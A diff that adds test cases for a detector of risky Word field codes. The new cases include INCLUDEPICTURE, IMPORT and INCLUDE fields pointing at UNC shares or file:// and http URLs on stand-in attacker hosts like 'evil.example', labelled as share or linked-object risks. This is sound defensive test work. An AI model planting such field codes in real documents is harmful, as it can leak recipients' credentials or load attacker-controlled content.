@@ -29,6 +29,13 @@ def acts(octets: bytes, name: str) -> set[Active]:
         (' INCLUDETEXT "C:\\\\x.docx" ', set()),
         (' HYPERLINK "http://example.net/LINK" ', set()),
         (' INCLUDEPICTURE "http://example.net/x.png" \\d ', set()),
+        (' INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png" \\d ', {Active.SHARE}),
+        (' includepicture "file://evil.example/x.png" \\* MERGEFORMAT ', {Active.SHARE}),
+        (" IMPORT \\\\\\\\192.0.2.1\\\\s\\\\x.png ", {Active.SHARE}),
+        (' INCLUDE "http://evil.example/x.docx" ', {Active.LINKED_OBJECT}),
+        (' INCLUDEPICTURE "\\\\\\\\fileserver\\\\logos\\\\x.png" \\d ', set()),
+        (' INCLUDEPICTURE "C:\\\\x.y\\\\x.png" \\d ', set()),
+        (' IMPORT "http://example.net/x.png" ', set()),
         (' IF "LINK http://example.net" = "" ', set()),
     ],
 )
